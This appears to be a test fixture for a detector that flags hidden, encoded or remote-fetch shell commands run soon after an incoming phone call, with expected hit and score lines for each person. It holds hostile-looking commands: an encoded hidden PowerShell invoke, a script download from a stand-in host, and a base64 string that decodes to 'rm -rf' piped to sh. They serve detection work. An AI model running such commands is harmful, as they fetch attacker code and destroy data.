# A shell that hides, or whose commands are encoded, is none however often it runs; nor does a shell
# of every day excuse what it fetches.
person ana
person ben
person eva
source shell covers=programs format=shell_history
-4d 09:00 ana run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe cmd="powershell -w hidden -File a.ps1"
-3d 09:00 ana run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe cmd="powershell -w hidden -File a.ps1"
-2d 09:00 ana run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe cmd="powershell -w hidden -File a.ps1"
10:02 ana call-in +442079460031 14m
10:08 ana run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe cmd="powershell -w hidden -enc SQBFAFgA"
-4d 09:00 ben run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe
-3d 09:00 ben run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe
-2d 09:00 ben run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe
10:02 ben call-in +442079460032 14m
10:08 ben run C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe cmd="powershell iwr https://files.example/x.ps1"
-4d 09:00 eva shell "base64 -d job | sh" source=shell
-3d 09:00 eva shell "base64 -d job | sh" source=shell
-2d 09:00 eva shell "base64 -d job | sh" source=shell
10:02 eva call-in +442079460033 14m
-2d 09:10 eva shell "echo ready" source=shell
10:08 eva shell "echo cm0gLXJm | base64 -d | sh" source=shell
expect: ana hits=C9,F7 points.F7=25 says="encoded shell"
expect: ben hits=C9,F7 points.F7=25 says="fetch by command"
expect: eva hits=C9,F7 points.F7=25 says="encoded shell"
